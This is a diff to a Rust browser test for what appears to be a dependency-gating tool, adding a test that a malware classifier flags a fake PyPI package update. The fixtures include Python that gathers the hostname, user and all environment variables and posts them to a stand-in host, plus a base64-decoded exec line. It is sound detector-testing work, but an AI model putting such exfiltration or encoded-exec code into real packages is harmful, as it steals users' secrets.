@@ -1,6 +1,10 @@
-//! The pages in a real browser: signed in at the provider, rendered without script, wide and phone-sized.
+//! The pages in a real browser: signed in at the provider, wide and phone-sized.
 
-use lockgate_gate::{config::GrantConfig, web::auth::Role};
+use lockgate_classifier::Composition;
+use lockgate_gate::{
+    config::{Config, GrantConfig},
+    web::auth::Role,
+};
 use lockgate_model::Ecosystem;
 use lockgate_store::waivers::{self, Answer, NewWaiver, Requested};
 use lockgate_tests::{
@@ -44,6 +48,10 @@ fn png_size(path: &Path) -> (u32, u32) {
 
 /// A server where everybody who comes is signed in as an admin.
 async fn app() -> (TestApp, Provider) {
+    app_with(|_| {}).await
+}
+
+async fn app_with(change: impl FnOnce(&mut Config)) -> (TestApp, Provider) {
     let provider = Provider::start(Person::new("octo-reviewer", &["operators"])).await;
     let app = TestApp::start_with(|config| {
         let secret = config
@@ -55,6 +63,7 @@ async fn app() -> (TestApp, Provider) {
         std::fs::write(&secret, CLIENT_SECRET).expect("what the test needs is there");
         let grant = GrantConfig { group: "operators".to_owned(), role: Role::Admin, installations: None };
         config.auth = provider.auth(secret, vec![grant]);
+        change(config);
     })
     .await;
     let critical = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H";
@@ -194,4 +203,49 @@ async fn the_sign_in_says_how() {
     let page = look("login-token", without_provider.base.join("login").unwrap().to_string()).await;
     assert!(page.contains("lockgate token create") && page.contains("type=\"password\""), "{page}");
     without_provider.finish().await;
+}
+
+/// Inert: a host that cannot exist, and an encoded remark.
+const TAKES: &str = "import os\nimport socket\nimport urllib.request\n\ndata = {'host': socket.gethostname(), 'user': os.getlogin(), \
+                     'env': dict(os.environ)}\nurllib.request.urlopen('https://collector.invalid/hook', \
+                     data=str(data).encode())\n";
+const RUNS: &str =
+    "import base64\nexec(base64.b64decode('cHJpbnQoIk5vdGhpbmcgaGFwcGVucyBoZXJlLiBUaGlzIGlzIGEgZml4dHVyZS4iKQ=='))\n";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_score_is_asked_again_in_the_browser() {
+    let model = concat!(env!("CARGO_MANIFEST_DIR"), "/../services/classifier/models/classifier.onnx");
+    let (app, _provider) = app_with(|config| config.classifier.model = Some(model.into())).await;
+    let shop = |version: &str| Package::new(Ecosystem::Pypi, "shop", version);
+    let (base, next) = (shop("1.0.0"), shop("1.0.1").file("shop/report.py", TAKES).file("shop/load.py", RUNS));
+    [&base, &next].into_iter().for_each(|p| app.registries.publish(p));
+    let pinned = |package: &Package| lockfile(Ecosystem::Pypi, app.registries.base(), &[package]);
+    app.repository(&[("requirements.txt", &pinned(&base))]);
+    let run = app.judge("change", &[("requirements.txt", &pinned(&next))]).await;
+    let page: url::Url = run.details_url.expect("a completed run links to its page").parse().unwrap();
+
+    let decided = look("scored", signed_in(&app, page.path())).await;
+    for part in ["classifier-suspicious", "What the classifier saw", "shop/report.py", "shop/load.py", "flagged"] {
+        assert!(decided.contains(part), "{part} is not on the page: {decided}");
+    }
+    let made: Composition =
+        serde_json::from_str(&between(&decided, "data-composition=\"", "\"").replace("&quot;", "\"")).unwrap();
+    assert!(made.hunks.len() > 1 && made.rest.is_some(), "{made:?}");
+    assert!(!decided.contains("data-hunk=\"\" checked=\"\" hidden"), "the script did not run: {decided}");
+    let shown = |page: &str| between(page, "data-score=\"\">", "<").to_owned();
+    let all = vec![true; made.hunks.len()];
+    assert_eq!(shown(&decided), format!("{:.2}", made.score(&all).unwrap()));
+
+    // Without every place that is named, the rest is scored.
+    let places: Vec<String> = (0..made.hunks.len()).map(|place| format!("0.{place}")).collect();
+    let address = signed_in(&app, page.path()) + "#without=" + &places.join(",");
+    let again = look("scored-again", address).await;
+    assert_eq!(shown(&again), format!("{:.2}", made.score(&vec![false; all.len()]).unwrap()));
+    assert!(shown(&again) != shown(&decided) && again.contains("quiet"), "{again}");
+    app.finish().await;
+}
+
+fn between<'a>(text: &'a str, before: &str, after: &str) -> &'a str {
+    let (_, rest) = text.split_once(before).unwrap_or_else(|| panic!("{before} is not on the page: {text}"));
+    rest.split_once(after).expect("the text goes on").0
 }
